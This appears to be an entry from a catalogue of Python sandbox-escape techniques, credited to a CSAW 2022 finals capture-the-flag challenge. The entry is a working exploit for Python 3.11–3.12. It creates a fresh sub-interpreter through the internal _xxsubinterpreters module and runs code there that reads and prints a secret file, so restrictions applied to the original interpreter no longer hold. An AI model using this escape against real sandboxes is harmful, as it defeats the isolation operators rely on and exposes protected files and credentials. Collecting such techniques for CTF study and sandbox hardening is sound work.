# technique: a sub-interpreter knows nothing of what was done to this one
# goal: read-secret
# source: CSAW 2022 finals
# python: 3.11-3.12
import _xxsubinterpreters as interpreters
number = interpreters.create()
interpreters.run_string(number, 'print(open("@SECRET@").read(), flush=True)')
